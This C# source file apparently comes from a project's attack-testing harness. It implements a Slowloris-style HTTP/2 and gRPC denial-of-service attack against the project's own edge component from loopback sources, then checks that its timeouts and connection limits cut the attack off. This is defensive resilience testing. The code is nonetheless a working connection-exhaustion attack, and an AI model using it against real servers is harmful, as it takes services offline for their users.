using SieveQ.Attacks.Attacks.Http2;

namespace SieveQ.Attacks.Attacks;

/// <summary>
/// slowloris: from <see cref="Sources"/> loopback sources, <see cref="ConnectionsPerSource"/> TLS connections each to
/// the first pre-SQ (under its 32 per source). One connection in <see cref="SilentEvery"/> completes TLS and then says
/// nothing; each of the others opens <see cref="StreamsPerConnection"/> streams (under the 32 per connection), half
/// on Exchange and half on Health, sends a gRPC prefix promising a message and then trickles one byte per stream
/// every <see cref="TrickleEvery"/>, never finishing it. Whatever the pre-SQ ends (a stream, a connection) is opened
/// again at once. The attack's actions are connections and streams opened and bytes trickled.
/// </summary>
internal sealed class Slowloris : Attack
{
    public const int Sources = 3;
    public const int ConnectionsPerSource = 24;
    public const int StreamsPerConnection = 30;
    public const int SilentEvery = 4;
    public static readonly TimeSpan TrickleEvery = TimeSpan.FromSeconds(3);

    private readonly OutcomeTally _tally = new();
    private readonly OpenStreamsProbe _probe = new();
    private long _applied;
    private long _held;
    private long _heldPeak;

    public override string Description =>
        $"{Sources} sources x {ConnectionsPerSource} TLS connections to the first pre-SQ; 1 in {SilentEvery} silent after TLS, the others holding "
        + $"{StreamsPerConnection} streams each (Exchange and Health) with bodies trickled 1 byte per {TrickleEvery.TotalSeconds:0} s";

    public override string Countermeasure =>
        "the pre-SQ's preface deadline (a connection silent for 10 s is cut), Kestrel's minimum body rate on unary calls (1 KiB/s after 5 s), "
        + "the Exchange stream's unbound timeout (no frame passing every check in 30 s: PermissionDenied), per-source (32) and per-connection (32 streams) limits";

    public override string? Watched => EdgeTarget.FirstPreSqName;

    public override long Applied => Interlocked.Read(ref _applied);

    public override async Task RunAsync(AttackTarget target, CancellationToken stop)
    {
        var edge = EdgeTarget.FirstPreSq(target.Config);
        var probing = Task.Run(() => _probe.RunAsync(target.Config, edge.Name, stop), CancellationToken.None);
        var holders = new List<Task>();
        for (var s = 0; s < Sources; s++)
        {
            for (var c = 0; c < ConnectionsPerSource; c++)
            {
                var (source, silent) = (s, c % SilentEvery == 0);
                holders.Add(Task.Run(() => HoldAsync(edge, source, silent, stop), CancellationToken.None));
            }
        }
        await Task.WhenAll(holders).ConfigureAwait(false);
        await probing.ConfigureAwait(false);
    }

    private async Task HoldAsync(EdgeTarget edge, int source, bool silent, CancellationToken stop)
    {
        while (!stop.IsCancellationRequested)
        {
            RawHttp2Connection connection;
            try
            {
                connection = await edge.OpenAsync(source, stop, preface: !silent).ConfigureAwait(false);
            }
            catch (Exception e) when (e is IOException or System.Net.Sockets.SocketException or System.Security.Authentication.AuthenticationException)
            {
                _tally.Add("attacker connections refused or failed");
                await Pause(TimeSpan.FromMilliseconds(500), stop).ConfigureAwait(false);
                continue;
            }
            catch (OperationCanceledException)
            {
                return;
            }
            Interlocked.Increment(ref _applied);
            _tally.Add("attacker connections opened");
            await using (connection.ConfigureAwait(false))
            {
                try
                {
                    if (silent)
                    {
                        await connection.Closed.WaitAsync(stop).ConfigureAwait(false);
                    }
                    else
                    {
                        await TrickleAsync(connection, stop).ConfigureAwait(false);
                    }
                }
                catch (OperationCanceledException) when (stop.IsCancellationRequested)
                {
                    return;
                }
                catch (Exception e) when (e is IOException or ObjectDisposedException or OperationCanceledException)
                {
                    // the pre-SQ closed it while we wrote
                }
                if (!stop.IsCancellationRequested)
                {
                    _tally.Add(silent ? "attacker silent connections cut by the pre-SQ" : $"attacker stream-holding connections closed by the pre-SQ: {connection.CloseReason}");
                }
            }
        }
    }

    private async Task TrickleAsync(RawHttp2Connection connection, CancellationToken stop)
    {
        var streams = new List<(int Id, Task<StreamOutcome?> Outcome)>();
        try
        {
            while (!stop.IsCancellationRequested && !connection.Closed.IsCompleted)
            {
                for (var i = streams.Count - 1; i >= 0; i--)
                {
                    if (streams[i].Outcome.IsCompleted)
                    {
                        var outcome = await streams[i].Outcome.ConfigureAwait(false);
                        _tally.Add($"attacker streams ended by the pre-SQ: {outcome?.Kind ?? "no answer"}");
                        streams.RemoveAt(i);
                        Interlocked.Decrement(ref _held);
                    }
                }
                while (streams.Count < StreamsPerConnection && !connection.Closed.IsCompleted)
                {
                    var exchange = streams.Count % 2 == 0;
                    var id = await connection.OpenStreamAsync(exchange ? EdgeTarget.ExchangePath : EdgeTarget.HealthPath, endStream: false, track: true, stop).ConfigureAwait(false);
                    // The prefix promises a message (under each method's limit) that never arrives whole.
                    await connection.WriteAsync(Http2Wire.Frame(FrameType.Data, 0, id, Http2Wire.GrpcMessage(exchange ? 1000u : 500u, [])), stop).ConfigureAwait(false);
                    streams.Add((id, connection.OutcomeAsync(id, Timeout.InfiniteTimeSpan, CancellationToken.None)));
                    Interlocked.Increment(ref _applied);
                    _tally.Add("attacker streams opened");
                    var held = Interlocked.Increment(ref _held);
                    InterlockedMax(ref _heldPeak, held);
                }
                await Pause(TrickleEvery, stop).ConfigureAwait(false);
                foreach (var (id, outcome) in streams.Where(x => !x.Outcome.IsCompleted))
                {
                    await connection.WriteAsync(Http2Wire.Frame(FrameType.Data, 0, id, [0x0A]), stop).ConfigureAwait(false);
                    Interlocked.Increment(ref _applied);
                }
            }
        }
        finally
        {
            Interlocked.Add(ref _held, -streams.Count(x => !x.Outcome.IsCompleted));
        }
    }

    private static void InterlockedMax(ref long target, long value)
    {
        var seen = Interlocked.Read(ref target);
        while (value > seen && Interlocked.CompareExchange(ref target, value, seen) != seen)
        {
            seen = Interlocked.Read(ref target);
        }
    }

    private static async Task Pause(TimeSpan t, CancellationToken stop)
    {
        try
        {
            await Task.Delay(t, stop).ConfigureAwait(false);
        }
        catch (OperationCanceledException)
        {
            // the window ended
        }
    }

    public override IReadOnlySet<string> Levels { get; } = new HashSet<string>(StringComparer.Ordinal) { "attacker streams held at once (peak)", "pre-sq open_streams during the attack (peak)", "pre-sq open_streams after the attack" };

    public override async Task<IReadOnlyDictionary<string, long>> CountermeasureAsync(AttackTarget target, CancellationToken ct)
    {
        var edge = EdgeTarget.FirstPreSq(target.Config);
        var figures = new Dictionary<string, long>(_tally.All, StringComparer.Ordinal)
        {
            ["attacker streams held at once (peak)"] = Interlocked.Read(ref _heldPeak),
            ["pre-sq open_streams during the attack (peak)"] = _probe.Peak,
        };
        foreach (var counter in new[] { "connections_closed_silent", "streams_unbound_timeout", "connections_refused_per_source", "open_streams" })
        {
            figures[counter == "open_streams" ? "pre-sq open_streams after the attack" : $"pre-sq {counter}"] = await ComponentCounterAsync(target.Config, edge.Name, counter, ct).ConfigureAwait(false);
        }
        return figures;
    }
}
